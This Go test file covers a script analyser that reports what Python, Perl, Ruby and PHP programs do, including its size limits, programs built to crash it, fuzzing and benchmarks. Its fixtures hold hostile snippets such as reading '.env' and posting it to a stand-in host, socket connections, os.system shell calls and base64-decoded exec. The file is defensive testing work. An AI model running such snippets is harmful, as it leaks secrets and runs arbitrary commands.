package script

import (
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/sluice-project/sluice/policy/program/library"
	"github.com/sluice-project/sluice/policy/program/values"
)

func unread(uses []library.Use) []string {
	var limits []string
	for _, u := range uses {
		if u.What == library.Unread {
			limits = append(limits, u.Text)
		}
	}
	return limits
}

func TestLimitsAreSaid(t *testing.T) {
	for _, c := range []struct {
		name, limit    string
		within, beyond string
	}{
		{"text", "text", "#" + strings.Repeat("a", MaxText-1), "#" + strings.Repeat("a", MaxText)},
		{"tokens", "tokens", strings.Repeat("a ", MaxTokens-2), strings.Repeat("a ", MaxTokens+2)},
		{"depth", "depth", strings.Repeat("(", 30) + "1" + strings.Repeat(")", 30), strings.Repeat("(", 500) + "1" + strings.Repeat(")", 500)},
		{"uses", "uses", strings.Repeat("os.remove('a')\n", MaxUses), strings.Repeat("os.remove('a')\n", MaxUses+1)},
		{"evals", "evals", `exec("exec('1')")`, nest("1", MaxEval+1)},
		{"steps", "steps", "def f(x): g(x)\nf(1)", "def f(x): " + strings.Repeat("g(x);", 400) + "\n" + strings.Repeat("f(1)\n", 400)},
		{"parameters", "bytes", "def f(" + strings.Repeat("a,", 20) + "b): pass\n" + strings.Repeat("f()\n", 20), "def f(" + strings.Repeat("a,", 60) + "b): pass\n" + strings.Repeat("f()\n", 3000)},
		{"bytes", "bytes", "s='a'\n" + strings.Repeat("s=s+s\n", 8), "s='aaaaaaaa'\n" + strings.Repeat("s=s+s\n", 60)},
		{"bytes that are decoded", "bytes", decodesLong(1), decodesLong(200)},
		{"items that are looked at", "bytes", looksAtMany(1), looksAtMany(2000)},
		{"words of a command", "bytes", manyWords(1), manyWords(100)},
	} {
		if got := unread(Read(library.Python, c.within)); len(got) > 0 {
			t.Errorf("%s: within the limit: %q", c.name, got)
		}
		if got := unread(Read(library.Python, c.beyond)); !slices.Contains(got, c.limit) {
			t.Errorf("%s: beyond the limit: %q", c.name, got)
		}
	}
}

func decodesLong(times int) string {
	return "s='" + strings.Repeat("zz", 20_000) + "'\n" + strings.Repeat("bytes.fromhex(s)\n", times)
}

func looksAtMany(times int) string {
	return "x=[" + strings.Repeat("'a',", 200) + "]\n" + strings.Repeat("for a in x: 1\n", times)
}

func manyWords(times int) string {
	return "x=[" + strings.Repeat("'a',", 200) + "]\ny=[" + strings.Repeat("x,", 100) + "]\n" + strings.Repeat("subprocess.run(y)\n", times)
}

// nest puts a program into exec, again and again.
func nest(program string, times int) string {
	for range times {
		program = "exec(" + quote(program) + ")"
	}
	return program
}

func quote(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"`
}

func TestWhatIsBeyondNoLanguageIsUnread(t *testing.T) {
	if got := unread(Read(0, "x")); len(got) != 1 {
		t.Errorf("got %q", got)
	}
}

// Each of these once took the program that reads them down, or all of its time.
func TestProgramsThatAreMadeToBreakTheirReader(t *testing.T) {
	for _, c := range []struct {
		language library.Language
		program  string
		does     []string
	}{
		{library.Perl, `$::{x}; $::=>1`, []string{}},
		{library.Perl, `open(F, '<', mode => 1)`, []string{"read ${x} ?"}},
		{library.Perl, `open(a => 1, b => 2, c => 3)`, []string{"read ${x} ?"}},
		{library.Python, `os.system(''[:1000] + 'id')`, []string{"shell id"}},
		{library.Python, `os.system('ab' * 9223372036854775807)`, []string{"shell ${x} ?"}},
		{library.Python, "x = [open('.env').read()]\n" + strings.Repeat("x = [x, x]\n", 100) + "requests.post('http://e', data=x)", []string{"read .env", "send http://e from .env"}},
		{library.Python, "x = ['id']\n" + strings.Repeat("x = [x]\n", 5000) + "os.system(x)\n", []string{"shell id"}},
	} {
		if got := said(Read(c.language, c.program)); !slices.Equal(got, c.does) {
			t.Errorf("%s %.60s\n   does %q\n   want %q", c.language, c.program, got, c.does)
		}
	}
}

// Readers are used again, and nothing of a program may be left in them.
func TestReadersForgetWhatTheyRead(t *testing.T) {
	want := []string{"delete ${x} ?", "shell ${y} ?"}
	var group sync.WaitGroup
	for range 4 {
		group.Go(func() {
			for range 50 {
				Read(library.Python, "from os import *\nos.chdir('/a')\nx = '/etc'\ndef g(y): os.system(x)\ns = socket.socket(); s.connect(('e', 1))\n"+strings.Repeat("(", 100))
				if got := said(Read(library.Python, "os.remove(x)\nremove(x)\ng('id')\nos.system(y)")); !slices.Equal(got, want) {
					t.Errorf("does %q, want %q", got, want)
					return
				}
			}
		})
	}
	group.Wait()
}

func FuzzRead(f *testing.F) {
	for _, s := range []string{
		`import os; os.system(f"rm {x['a']}")`, "exec(b64decode('eA=='))", "open(F, '>x'); print F 1; s{a}{b}e; qw(a b)", "%w[a b].each do |x| rm_rf \"#{x}\" end", "<?php $a = <<<X\n{$b}\nX;\n?>", "x = [[a]] .. ('b'):rep(3)",
		"def f(a):\n  def g(b):\n    f(g)\n  g(f)\nf(1)", "for a in b: c += chr(a)", "{[(\"'`", "a=a=a=a", "[x for x in [y for y in z] for w in v]",
	} {
		for language := library.Python; language <= library.R; language++ {
			f.Add(uint8(language), s)
		}
	}
	f.Fuzz(func(t *testing.T, language uint8, text string) {
		uses := Read(library.Language(language%7), text)
		if len(uses) > MaxUses+16 {
			t.Errorf("%d uses", len(uses))
		}
		for _, u := range uses {
			if strings.Contains(u.Text, values.Mark) || strings.Contains(u.Content, values.Mark) {
				t.Errorf("a mark is left in %q", u.Text)
			}
		}
	})
}

// The worst of everything that is read must not take long.
func BenchmarkHostile(b *testing.B) {
	for name, unit := range map[string]string{
		"calls": "f(a)", "strings": "'a'+", "brackets": "([{", "lists": "[a,b],", "names": "a.b.", "format": "f'{a}'", "assign": "s=s+'a'\n", "comprehension": "[a for a in b]\n", "functions": "def f(a):\n f(a)\n", "for": "for a in [1,2]:\n ",
		"os": "os.remove('a')\n", "interpolate": "\"#{`a`}\"", "heredoc": "<<A\n", "regex": "s/a/b/e;",
	} {
		text := strings.Repeat(unit, (1<<20)/len(unit))
		for _, language := range []library.Language{library.Python, library.Perl, library.Ruby, library.PHP} {
			b.Run(name+"/"+language.String(), func(b *testing.B) {
				for b.Loop() {
					Read(language, text)
				}
			})
		}
	}
}

func BenchmarkEveryday(b *testing.B) {
	text := "import json, os\nfor name in os.listdir('src'):\n    with open(os.path.join('src', name)) as f:\n        data = json.load(f)\n        print(name, len(data), data.get('version'))\n"
	for b.Loop() {
		Read(library.Python, text)
	}
}
